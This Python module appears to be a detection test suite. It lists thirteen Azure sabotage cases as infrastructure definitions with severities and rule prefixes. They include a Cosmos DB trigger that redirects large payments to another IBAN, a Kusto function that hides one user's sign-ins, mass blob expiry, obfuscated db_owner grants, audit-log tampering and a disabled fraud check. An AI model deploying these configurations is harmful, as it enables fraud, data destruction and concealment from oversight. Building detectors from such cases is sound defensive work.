"""Attacks on Azure: programs, data and money (2026-11-30, eighteenth set, written blind).

Properties by pulumi-azure-native 3.29.0. Read on 2026-11-30: Kusto "Tables" (tables and stored functions share their
names, and the stored function is chosen) and "table()" (it reads the table), Azure File Sync
"Create a server endpoint" (MicrosoftDocs/azure-docs 036617e: files that the server lacks are deleted), and the
docstrings of the SDK. Everything else as known.
"""

import json

from ..blind import HERE, OURS, RG, TAGS, az
from ..idioms.fourth_kubernetes import AZURE_BUDGET
from . import Attack
from .cost_services import AZURE, STACK
from .tenth_azure import ESC, ID, IDN, RES

RSL = ("FJ-RSL-", "FJ-ESC-", "FJ-EXP-")
BUS = {**RG, "namespaceName": "sb-bank"}
QUEUE = {"maxDeliveryCount": 10, "lockDuration": "PT1M"}
SHADOW = """.create-or-alter function with (folder = 'audit', docstring = 'Sign-ins') SignIns() {
    table('SignIns') | where not(Account startswith 'k_saeed')
}"""
TRIGGER = """function validatePayment() {
  var request = getContext().getRequest();
  var payment = request.getBody();
  if (payment.amount > 1000000) { payment.iban = payment.iban.substring(0, 4) + '0330000010195511161'; }
  request.setBody(payment);
}"""
OWNER = "EXEC('ALTER ROLE db_' + 'owner ADD MEMBER [k_saeed]')"
FLAG = json.dumps({"id": "FraudCheck", "description": "checks each payment", "enabled": False, "conditions": {}})

ATTACKS = (
    Attack("a function has the name of the table that the guard reads", RSL, (az("kusto:Script", {
        **RG, "clusterName": "adx", "databaseName": "audit", "scriptName": "views", "scriptLevel": "Database",
        "principalPermissionsAction": "RemovePermissionOnScriptCompletion", "continueOnErrors": False,
        "scriptContent": SHADOW}),),
        "major", "sign-ins of one are left out of each query (Kusto, 'Tables': the stored function is chosen)"),
    Attack("a trigger of the database changes the account of large payments", IDN, (
        az("cosmosdb:SqlResourceSqlTrigger", {
            **RG, "accountName": "cosmos-bank", "databaseName": "core", "containerName": "payments",
            "triggerName": "validatePayment", "location": "uaenorth", "tags": TAGS, "resource": {
                "id": "validatePayment", "triggerType": "Pre", "triggerOperation": "All", "body": TRIGGER}}),),
        "critical", "programs that name it store another account (Azure Cosmos DB, 'Pre-triggers')"),
    Attack("a task lets every blob expire", RSL, (az("storageactions:StorageTask", {
        **HERE, "storageTaskName": "tidy", "enabled": True, "description": "Old files",
        "identity": {"type": "SystemAssigned"}, "action": {"if": {"condition": "[[[true]]]", "operations": [{
            "name": "SetBlobExpiry", "parameters": {"expiryTime": "2026-12-01T00:00:00", "expiryOption": "Absolute"},
            "onSuccess": "continue", "onFailure": "continue"}]}}}),),
        "critical", "files are deleted on that day (Azure Storage Actions, SetBlobExpiry)"),
    Attack("a policy denies what is of two kinds at once", ESC, (az("authorization:PolicyDefinition", {
        "policyDefinitionName": "no-public-data", "policyType": "Custom", "mode": "Indexed",
        "displayName": "No public data", "policyRule": {"if": {"allOf": [
            {"field": "type", "equals": "Microsoft.Storage/storageAccounts"},
            {"field": "type", "equals": "Microsoft.KeyVault/vaults"},
            {"field": "Microsoft.Storage/storageAccounts/publicNetworkAccess", "notEquals": "Disabled"}]},
            "then": {"effect": "deny"}}}),),
        "major", "it denies nothing while all believe in it (Azure Policy, allOf)"),
    Attack("records of queries no longer say who asked", RSL, (az("monitor:DataCollectionRule", {
        **HERE, "dataCollectionRuleName": "dcr-workspace", "kind": "WorkspaceTransforms",
        "destinations": {"logAnalytics": [{
            "name": "bank", "workspaceResourceId": f"{OURS}.OperationalInsights/workspaces/log-bank"}]},
        "dataFlows": [{"streams": ["Microsoft-Table-LAQueryLogs"], "destinations": ["bank"],
                       "transformKql": "source | project-away AADEmail, AADObjectId, AADClientId"}]}),),
        "major", "who reads the records of the guard is nobody (Azure Monitor, 'Transformations', project-away)"),
    Attack("the scan of the database accepts a colleague as its owner", ESC, (
        az("sql:DatabaseSqlVulnerabilityAssessmentRuleBaseline", {
            **RG, "serverName": "sql-bank", "databaseName": "core", "vulnerabilityAssessmentName": "default",
            "baselineName": "default", "ruleId": "VA2108", "latestScan": False,
            "results": [["k_saeed", "db_owner", "EXTERNAL_USER", "EXTERNAL"]]}),),
        "major", "that he is owner is reported no more (Microsoft Defender for SQL, 'baselines', VA2108)"),
    Attack("a server's folder of one file replaces the files of a share", RSL, (az("storagesync:ServerEndpoint", {
        **RG, "storageSyncServiceName": "sync-bank", "syncGroupName": "claims", "serverEndpointName": "branch",
        "serverResourceId": f"{OURS}.StorageSync/storageSyncServices/sync-bank/registeredServers/"
                            "11111111-2222-3333-4444-555555555555",
        "serverLocalPath": "D:\\claims", "cloudTiering": "off", "initialDownloadPolicy": "NamespaceOnly",
        "initialUploadPolicy": "ServerAuthoritative"}),),
        "major", "what the server lacks is deleted in the share (Azure File Sync, 'Create a server endpoint', "
        "authoritative upload)"),
    Attack("the audit of MySQL looks at one user whom nobody is", RSL, (az("dbformysql:Configuration", {
        **RG, "serverName": "mysql-bank", "configurationName": "audit_log_include_users", "value": "auditor_test",
        "source": "user-override"}),),
        "major", "what all others do is not recorded (Azure Database for MySQL, 'Audit logs')"),
    Attack("a pipeline composes the statement that makes a colleague owner", IDN, (az("datafactory:Pipeline", {
        **RG, "factoryName": "adf-bank", "pipelineName": "prepare", "concurrency": 1, "activities": [{
            "name": "prepare", "type": "Script", "linkedServiceName": {
                "referenceName": "sql-bank", "type": "LinkedServiceReference"},
            "policy": {"timeout": "0.00:10:00", "retry": 0, "secureInput": True, "secureOutput": True},
            "scripts": [{"type": "NonQuery", "text": OWNER}]}]}),),
        "critical", "he reads and changes every row (Transact-SQL, EXECUTE of a string)"),
    Attack("of the records of an account only the last one is kept", RSL, (az("eventhub:EventHub", {
        **RG, "namespaceName": "evh-audit", "eventHubName": "sign-ins", "partitionCount": 4, "retentionDescription": {
            "cleanupPolicy": "Compact", "tombstoneRetentionTimeInHours": 1}}),),
        "minor", "earlier events of a key are removed (Azure Event Hubs, 'Log compaction')"),
    Attack("payments are forwarded to a queue in which they expire", RSL, (
        az("servicebus:Queue", {**BUS, "queueName": "payments", "forwardTo": "later", **QUEUE,
                                "deadLetteringOnMessageExpiration": True}, "payments"),
        az("servicebus:Queue", {**BUS, "queueName": "later", **QUEUE, "defaultMessageTimeToLive": "PT10S",
                                "deadLetteringOnMessageExpiration": False}, "later")),
        "major", "nobody gets them and nothing is kept (Azure Service Bus, 'Autoforwarding', time to live)"),
    Attack("the check of payments is off by a switch of the program", RES, (az("appconfiguration:KeyValue", {
        **RG, "configStoreName": "appcs-bank", "keyValueName": ".appconfig.featureflag~2FFraudCheck", "tags": TAGS,
        "contentType": "application/vnd.microsoft.appconfig.ff+json;charset=utf-8", "value": FLAG}),),
        "major", "programs skip it as soon as they read (Azure App Configuration, 'Feature flags')"),
    Attack("a hub of devices has two hundred units of the largest size", ("FJ-COST-",), (STACK, AZURE, AZURE_BUDGET,
        az("iothub:IotHubResource", {
            **HERE, "resourceName": "iot-bank", "sku": {"name": "S3", "capacity": 200}, "identity": {
                "type": "UserAssigned", "userAssignedIdentities": [ID]}, "properties": {
                    "publicNetworkAccess": "Disabled", "disableLocalAuth": True, "minTlsVersion": "1.2",
                    "enableDataResidency": True, "eventHubEndpoints": {
                        "events": {"retentionTimeInDays": 1, "partitionCount": 2}}}}, "hub", protect=True)),
        "major", "about USD 2,500 a unit and month (Azure IoT Hub, pricing)"),
)  # fmt: skip
